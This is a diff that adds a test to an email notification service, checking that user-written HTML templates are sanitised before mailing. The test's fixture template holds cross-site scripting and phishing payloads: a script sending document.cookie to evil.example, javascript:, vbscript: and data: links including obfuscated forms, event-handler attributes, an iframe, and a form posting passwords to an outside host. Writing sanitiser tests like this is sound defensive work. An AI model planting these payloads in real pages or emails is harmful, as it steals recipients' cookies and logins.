@@ -24,7 +24,7 @@ from flytenotify.config import DatabaseConfig, GroupingConfig, RetryConfig, Sett
 from flytenotify.domain import DeliveryStatus, EntityId
 from flytenotify.store.base import DeliveryFilter
 from tests.dispatch_child import settings as child_settings
-from tests.helpers import PLAN, event_json, execution
+from tests.helpers import PLAN, HtmlMarkup, event_json, execution
 from tests.servers.smtp import SmtpServer, smtp_servers_fixture
 
 __all__ = ["smtp_servers_fixture"]  # the fixture is used by name
@@ -207,3 +207,63 @@ def test_sigkill_mid_batch_loses_nothing(
     assert duplicates <= 8
     message_ids = Counter(m.message["Message-ID"] for m in server.messages)
     assert len(message_ids) == total  # a repeat carries the same Message-ID: droppable
+
+
+# A template anyone who can register a launch plan can write, sent from the company's sender.
+HOSTILE_TEMPLATE = """<p>Run <b>{{ name }}</b> {{ phase }}.</p>
+<script>fetch("https://evil.example/?c=" + document.cookie)</script>
+<a href="javascript:alert(document.cookie)">details</a>
+<a href="JaVaScRiPt:alert(1)">a</a> <a href="java&#09;script:alert(1)">b</a>
+<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">c</a>
+<a href="vbscript:msgbox(1)">d</a> <a href="//evil.example/x">e</a>
+<img src="https://flyte.example.com/logo.png" onerror="alert(1)" alt="logo">
+<div onclick="steal()" onmouseover="steal()">hover</div>
+<svg onload="alert(1)"></svg><iframe src="https://evil.example"></iframe>
+<form action="https://evil.example/login"><input name="password"></form>
+<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">
+<style>body { background: url(https://evil.example/track.png) }</style>
+<a href="https://flyte.example.com/runs/{{ name }}">open the run</a>
+<a href="mailto:oncall@example.com">mail the on-call</a>
+<a href="{{ error.uri }}">the log</a>"""
+
+
+async def test_an_html_template_is_sanitised_before_it_leaves(
+    database_url: str, smtp_servers: Callable[..., SmtpServer]
+) -> None:
+    server = smtp_servers()
+    async with Notifier(make_settings(database_url, server.smtp_config())) as n:
+        await n.create_execution(
+            execution("e1"),
+            notifications=[Email([P.FAILED], ["ops@example.com"], template=HOSTILE_TEMPLATE)],
+        )
+        event = event_json("e1", "FAILED", error="boom")
+        event["error"]["errorUri"] = "javascript:alert(1)"  # values are the execution's
+        await n.report_event(event)
+        await n.run_until_idle()
+        (delivery,) = await n.deliveries()
+        assert delivery.status is DeliveryStatus.DELIVERED, delivery.last_reply
+    (received,) = server.messages
+    part = received.message.get_body(("html",))
+    assert part is not None
+    document = part.get_content().replace("\r\n", "\n")
+    body = document.split("<body>\n", 1)[1].rsplit("\n</body>", 1)[0]
+    markup = HtmlMarkup(body)
+
+    assert set(markup.tags) <= {"div", "p", "b", "a", "img"}, markup.tags
+    assert not [name for name, _ in markup.attributes if name.startswith("on")]
+    urls = [value for name, value in markup.attributes if name in ("href", "src")]
+    assert urls == [
+        "https://flyte.example.com/logo.png",
+        "https://flyte.example.com/runs/e1",
+        "mailto:oncall@example.com",
+    ]
+    for gone in ("script", "javascript", "evil.example", "document.cookie", "vbscript", "data:"):
+        assert gone not in body.lower(), gone
+    assert "Run <b>e1</b> failed." in body
+    assert ">open the run</a>" in body  # a link that went is still a link
+    assert ">details</a>" in body  # and one whose URL went keeps its words
+
+    # The text part is the template as FlyteAdmin renders it: substituted, not rewritten.
+    text = received.message.get_body(("plain",))
+    assert text is not None
+    assert '<a href="https://flyte.example.com/runs/e1">open the run</a>' in text.get_content()
